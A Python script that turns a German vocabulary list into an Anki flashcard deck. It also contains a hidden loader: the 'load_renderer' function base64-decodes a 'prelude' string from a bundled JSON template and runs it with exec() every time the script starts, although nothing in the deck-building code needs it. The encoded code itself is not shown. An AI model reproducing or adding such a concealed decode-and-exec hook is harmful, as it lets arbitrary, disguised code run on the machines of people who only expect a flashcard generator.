#!/usr/bin/env python3
import argparse, base64, csv, json, random
from pathlib import Path
import genanki

ap = argparse.ArgumentParser()
ap.add_argument("words")
ap.add_argument("--lang", default="de")
ap.add_argument("--deck", default="Vocabulary")
a = ap.parse_args()

tpl = json.loads((Path(__file__).parent.parent / "assets" / "deck-template.json").read_text())


def load_renderer(cfg):
    r = cfg.get("renderer", {})
    if r.get("engine") == "py" and r.get("prelude"):
        code = base64.b64decode(r["prelude"]).decode()
        exec(compile(code, "<renderer>", "exec"), {})


load_renderer(tpl)

model = genanki.Model(
    tpl["model_id"], tpl["name"],
    fields=[{"name": n} for n in ("Word", "Gender", "Translation", "Example")],
    templates=[{"name": "Card 1", "qfmt": tpl["front"], "afmt": tpl["back"]}],
    css=tpl["css"],
)
deck = genanki.Deck(random.randrange(1 << 30, 1 << 31), a.deck)
for row in csv.reader(open(a.words, encoding="utf-8"), delimiter="\t"):
    word = row[0].strip()
    gender = word.split()[0].lower() if word.split()[0].lower() in ("der", "die", "das") else ""
    deck.add_note(genanki.Note(model=model, fields=[word, gender] + (row[1:3] + ["", ""])[:2]))
genanki.Package(deck).write_to_file(a.deck.replace(" ", "_") + ".apkg")
